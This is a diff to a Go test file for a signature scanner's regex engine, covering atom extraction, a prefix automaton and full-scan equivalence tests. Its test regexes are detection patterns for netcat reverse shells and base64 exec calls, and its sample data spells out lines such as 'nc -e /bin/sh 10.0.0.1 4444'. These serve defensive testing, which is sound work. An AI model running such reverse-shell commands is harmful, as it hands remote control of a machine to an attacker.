@@ -4,8 +4,9 @@ import (
 	"bytes"
 	"errors"
 	"fmt"
+	"math/rand/v2"
+	"regexp"
 	"regexp/syntax"
-	"slices"
 	"strings"
 	"testing"
 )
@@ -182,7 +183,11 @@ func TestAtoms(t *testing.T) {
 		{Def{Kind: Literal, Text: "ab", Nocase: true}, "[AB Ab aB ab]", 0, 0},
 		{Def{Kind: Hex, Text: "00 00 ?? 4D 5A 90 ?? 11 22 33"}, "[\x11\"3]", 7, 7},
 		{Def{Kind: Hex, Text: "11 22 [1-3] 41 42 43 44"}, "[ABCD]", 3, 5},
-		{Def{Kind: Regex, Text: `[a-z]+(foo|barb)x`}, "[bar foo]", 1, RegexWindow},
+		{Def{Kind: Regex, Text: `[a-z]+(foo|barb)x`}, "[barb foox]", 1, RegexWindow},
+		// Words the parser factors (e(?:xec|val)) and a class before a group of words.
+		{Def{Kind: Regex, Text: `(exec|eval)\s*\(\s*base64`}, "[eval exec]", 0, 0},
+		{Def{Kind: Regex, Text: `[\s&(;|](nc|ncat|netcat)\s[^\n]*-e\s*(sh|bash)`}, "[nc ne]", 1, 1},
+		{Def{Kind: Regex, Text: `(ab|cd)?(ef|gh)ij`}, "[abef abgh cdef cdgh efij ghij]", 0, 0},
 		{Def{Kind: Regex, Text: `ab[cd]e`}, "[abce abde]", 0, 0},
 	}
 	for _, tc := range tests {
@@ -282,41 +287,112 @@ func TestStream(t *testing.T) {
 	}
 }
 
-// TestPrefixBytes: the bytes that can stand at each of the first positions of a match,
-// over every path of the regex, up to where a match can already have ended.
-func TestPrefixBytes(t *testing.T) {
+// prefixOf compiles re as compileRegex does and returns its prefixDFA and anchored
+// regexp.
+func prefixOf(t *testing.T, re string) (*prefixDFA, *regexp.Regexp) {
+	t.Helper()
+	tree, err := syntax.Parse(latin1(re), regexFlags)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tree = foldASCII(tree, false)
+	prog, err := syntax.Compile(tree.Simplify())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return newPrefixDFA(prog), regexp.MustCompile(`\A(?:` + tree.String() + `)`)
+}
+
+// TestPrefixDFA: which starts the automaton of a regex's first bytes lets through. It
+// follows every path of the regex together: "adef" cannot begin (ab|cd)ef though each
+// of its bytes can stand where it stands in some match.
+func TestPrefixDFA(t *testing.T) {
 	for _, tc := range []struct {
 		re   string
-		want []string // each position's bytes, in order
+		data string
+		want bool
 	}{
-		{`[;|](nc|ncat|netcat)\s-e`, []string{";|", "n", "ce", "\t\n\f\r at", "-ct", "\t\n\f\r ae"}}, // "nc -e" ends a match after six bytes
-		{`ab|abcd`, []string{"a", "b"}},
-		{`a*bc`, []string{"ab", "abc"}}, // "bc" ends a match after two bytes
-		{`(?i)xy[0-9]`, []string{"Xx", "Yy", "0123456789"}},
-		{`\xe9t\xe9`, []string{"\xe9", "t", "\xe9"}},
+		{`(ab|cd)ef`, "abef", true},
+		{`(ab|cd)ef`, "cdef", true},
+		{`(ab|cd)ef`, "adef", false},
+		{`(ab|cd)ef`, "cbef", false},
+		{`(ab|cd)ef`, "abe", false}, // the data ends before a match could
+		{`[;|](nc|ncat|netcat)\s-e`, ";nc -e", true},
+		{`[;|](nc|ncat|netcat)\s-e`, "|netcat\t-e", true},
+		{`[;|](nc|ncat|netcat)\s-e`, ";ncat -x", false},
+		{`[;|](nc|ncat|netcat)\s-e`, "|nca -e", false},
+		{`[;|](nc|ncat|netcat)\s-e`, ":nc -e", false},
+		{`ab|abcd`, "ab", true}, // a match can end after two bytes
+		{`(?i)xy[0-9]`, "XY7", true},
+		{`(?i)xy[0-9]`, "xYa", false},
+		{`\xe9t\xe9`, "\xe9t\xe9", true},
+		{`\xe9t\xe9`, "\xe9te", false},
+		{`a{20}b`, strings.Repeat("a", 16), true}, // undecided after 16 bytes: attempted
+		{`a{20}b`, strings.Repeat("a", 10) + "b", false},
+		{`[a-z]+=[0-9]{3}`, "abcdef=123", true},
+		{`[a-z]+=[0-9]{3}`, "abcdef=12x", false},
 	} {
-		tree, err := syntax.Parse(latin1(tc.re), regexFlags)
-		if err != nil {
-			t.Fatal(err)
+		d, _ := prefixOf(t, tc.re)
+		if d == nil {
+			t.Fatalf("%s: no automaton", tc.re)
 		}
-		prog, err := syntax.Compile(tree.Simplify())
-		if err != nil {
-			t.Fatal(err)
-		}
-		var got []string
-		for _, set := range prefixBytes(prog, prefixLen) {
-			var b []byte
-			for c := range 256 {
-				if set[c] {
-					b = append(b, byte(c))
-				}
-			}
-			got = append(got, string(b))
-		}
-		if !slices.Equal(got, tc.want) {
-			t.Errorf("%s: %q, want %q", tc.re, got, tc.want)
+		if got := d.canStart([]byte(tc.data), 0); got != tc.want {
+			t.Errorf("%s at %q: %v, want %v", tc.re, tc.data, got, tc.want)
 		}
 	}
+	// A regex that matches from any start a match follows has none: it would reject
+	// nothing.
+	if d, _ := prefixOf(t, `(?s).*abc`); d != nil {
+		t.Errorf("(?s).*abc: an automaton, want none")
+	}
+	if d, _ := prefixOf(t, `.*abc`); d == nil || d.canStart([]byte("\nabc"), 0) {
+		t.Errorf(".*abc: a start at a newline let through")
+	}
+}
+
+// TestPrefixDFANeverRejectsAMatch runs generated regexes over data planted with their
+// matches and checks every offset: the automaton lets through each start where the
+// regex matches, and turns most others away.
+func TestPrefixDFANeverRejectsAMatch(t *testing.T) {
+	r := rand.New(rand.NewPCG(3, 4))
+	sample := []byte("GET /index.html HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nUser-Agent: curl/7.88\r\n\x7fELF\x02\x01\xe9\x00/bin/sh -c 'nc -e /bin/sh 10.0.0.1 4444'")
+	var matched, rejected, offsets int
+	for n := 0; n < 300; n++ {
+		off := r.IntN(len(sample) - 12)
+		g := genRegex(r, sample[off:off+6+r.IntN(6)])
+		if g.def.Nocase || g.def.Wide {
+			continue
+		}
+		d, reA := prefixOf(t, g.def.Text)
+		if d == nil {
+			continue
+		}
+		data := append([]byte(nil), sample...)
+		for _, p := range g.plants {
+			data = append(data, p...)
+			data = append(data, sample[r.IntN(len(sample)):]...)
+		}
+		for i := range data {
+			offsets++
+			// The bytes as regexp reads them: each byte the rune of its value.
+			var text strings.Builder
+			for _, c := range data[i:min(len(data), i+regexWindow)] {
+				text.WriteRune(rune(c))
+			}
+			if reA.MatchString(text.String()) {
+				matched++
+				if !d.canStart(data, i) {
+					t.Fatalf("%s matches at %d of %q but the automaton rejects the start", g.def.Text, i, data)
+				}
+			} else if !d.canStart(data, i) {
+				rejected++
+			}
+		}
+	}
+	if matched == 0 || rejected < (offsets-matched)*3/4 {
+		t.Errorf("%d offsets, %d matched, %d of the others rejected", offsets, matched, rejected)
+	}
+	t.Logf("%d offsets, %d matched, %d of the others rejected", offsets, matched, rejected)
 }
 
 // TestRegexHighBytes checks the two ways a regex window with bytes above 0x7F is
@@ -442,5 +518,54 @@ func TestSamePatternMatchedOnce(t *testing.T) {
 	}
 	if fmt.Sprint(together[:5]) != "[[{0 21}] [{61 5} {67 5}] [{0 21}] [{61 5}] [{61 5} {67 5}]]" {
 		t.Errorf("matches %v", together)
+	}
+}
+
+// TestRegexFindsEveryStart compares the scan of regexes (generated ones, and ones whose
+// atoms cross groups and alternatives) with the regex tried at every offset: choosing
+// atoms and turning starts away must lose no match.
+func TestRegexFindsEveryStart(t *testing.T) {
+	r := rand.New(rand.NewPCG(5, 6))
+	sample := []byte("x=1; exec(base64.b64decode('aGk=')) | nc -e /bin/sh 10.0.0.1 4444;\tncat --sh-exec bash\n|netcat.openbsd  -c sh\xe9 evil(eval  (  ab cd abef cdghij ghij\x00\x01")
+	texts := []string{
+		`(exec|eval)\s*\(\s*base64`,
+		`[\t-\r &(;|](nc|ncat|netcat)(\.(traditional|openbsd))?\s[^\n&;|]*(-[ce]|--(sh-)?exec)\s*["']?[^\s"']*(sh|bash)`,
+		`(ab|cd)?(ef|gh)ij`,
+		`e(v(al|il)|xec)\s*\(`,
+		`(a|b|)(nc|ne)t?`,
+		`x{0,2}=[0-9]{1,3};`,
+	}
+	for len(texts) < 200 {
+		off := r.IntN(len(sample) - 12)
+		g := genRegex(r, sample[off:off+6+r.IntN(6)])
+		if !g.def.Nocase && !g.def.Wide {
+			texts = append(texts, g.def.Text)
+		}
+	}
+	tried := 0
+	for i, text := range texts {
+		d := Def{ID: fmt.Sprint("r", i), Kind: Regex, Text: text}
+		if _, err := Compile([]Def{d}); err != nil {
+			continue
+		}
+		tried++
+		reA := regexp.MustCompile(`\A(?:` + latin1(text) + `)`)
+		var want []hit
+		for s := range sample {
+			var w strings.Builder
+			for _, c := range sample[s:min(len(sample), s+RegexWindow)] {
+				w.WriteRune(rune(c))
+			}
+			if loc := reA.FindStringIndex(w.String()); loc != nil {
+				want = append(want, hit{int64(s), len([]rune(w.String()[:loc[1]]))})
+			}
+		}
+		got := scanAll(t, []Def{d}, sample, ScanOptions{})[0]
+		if fmt.Sprint(got) != fmt.Sprint(want) {
+			t.Errorf("%s: matches %v, want %v", text, got, want)
+		}
+	}
+	if tried < 150 {
+		t.Errorf("only %d regexes compiled", tried)
 	}
 }
